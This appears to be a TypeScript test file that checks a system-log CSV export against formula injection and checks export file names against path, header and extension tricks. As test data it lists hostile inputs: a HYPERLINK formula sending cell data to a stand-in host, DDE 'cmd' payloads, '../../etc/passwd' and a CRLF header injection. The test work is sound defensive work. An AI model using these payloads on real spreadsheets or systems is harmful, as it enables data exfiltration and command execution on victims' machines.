/** SECURITY CON-04: what somebody is called must not become a formula, a cell or a line of whoever opens the export. */
import { buffer } from 'node:stream/consumers';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { attachment, csvFileName, csvOf } from '../../src/system-log/csv.ts';
import { openDirectory } from '../unit/directory/directory-under-test.ts';

/** RFC 4180, as a spreadsheet reads it. */
function parse(text: string): string[][] {
  const rows: string[][] = [[]];
  const cells = /"((?:[^"]|"")*)"(,|\r\n)/gy;
  let end = 0;
  for (const [whole, cell = '', after] of text.matchAll(cells)) {
    end += whole.length;
    rows.at(-1)!.push(cell.replaceAll('""', '"'));
    if (after === '\r\n') rows.push([]);
  }
  expect(end).toBe(text.length);
  return rows.slice(1, -1);
}

let directory: Awaited<ReturnType<typeof openDirectory>>;
let exports = 0;
beforeAll(async () => {
  directory = await openDirectory();
  return directory[Symbol.asyncDispose];
});

/** Recorded and exported. */
async function exported(names: readonly string[]): Promise<string[][]> {
  const { systemLog, clock } = directory;
  const organizationId = `o${++exports}`;
  for (const name of names) {
    clock.advance(1);
    await systemLog.record({
      event: 'platform/connection/create',
      organizationId,
      actor: { type: 'administrator', id: name, name },
      target: { type: 'connection', id: name, name },
    });
  }
  const bytes = await buffer(csvOf(systemLog.each(organizationId, {}), 'en'));
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return parse(bytes.subarray(3).toString('utf8')).reverse();
}
/** What Excel, LibreOffice and Google Sheets begin a formula with; the full-width ones for Japanese and Chinese input. */
const beginsFormula = /^\s*[=+\-@\t\r\n＝＋－＠]/u;

const attacks = [
  '=HYPERLINK("https://evil.test/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u0000=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1',
  '","=1+1","',
  'x"\r\n"=1+1","',
  'a;=1+1',
];

describe('A name in the exported log', () => {
  it('is never the beginning of a formula, and stays in its cell', async () => {
    const rows = await exported(attacks);
    expect(rows).toHaveLength(attacks.length);
    for (const [index, row] of rows.entries()) {
      expect([attacks[index], row.length]).toEqual([attacks[index], 7]);
      for (const cell of row)
        expect([attacks[index], cell, beginsFormula.test(cell)]).toEqual([attacks[index], cell, false]);
    }
  });

  it('is not, whatever it is', async () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc
        .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '"', '＝', ' '), fc.string())
        .map((parts) => parts.join('')),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 20 }), async (names) => {
        const rows = await exported(names);
        expect(rows.map(({ length }) => length)).toEqual(names.map(() => 7));
        for (const cell of rows.flat()) expect(cell).not.toMatch(beginsFormula);
      }),
      { numRuns: 60 },
    );
  });

  it('is otherwise as it was', async () => {
    const [row] = await exported(['O’Brien, "Bo" 佐藤']);
    expect(row?.[1]).toBe('O’Brien, "Bo" 佐藤');
  });
});

describe('The name of the file', () => {
  it('is no path, no header and no command, whatever the organization is called', () => {
    const at = Date.UTC(2026, 10, 22, 14, 30, 5);
    const names = [
      '../../etc/passwd',
      'a\r\nSet-Cookie: x=1',
      '"; filename="evil.exe',
      'C:\\x',
      '=1',
      '',
      '.',
      'a'.repeat(500),
      '会社 (東京)',
      '\u202egpj.exe',
    ];
    for (const name of names) {
      const file = csvFileName({ name, orgId: '12345678' }, at);
      expect(file).toMatch(/^SystemLog-[\p{L}\p{M}\p{N}_]{0,60}-12345678-20261122T143005Z\.csv$/u);
      expect(attachment(file)).toMatch(/^attachment; filename="[\w.-]+"; filename\*=UTF-8''[\w.~%-]+$/);
    }
    expect(csvFileName({ name: '会社 (東京)', orgId: '12345678' }, at)).toBe(
      'SystemLog-会社_東京-12345678-20261122T143005Z.csv',
    );
  });
});
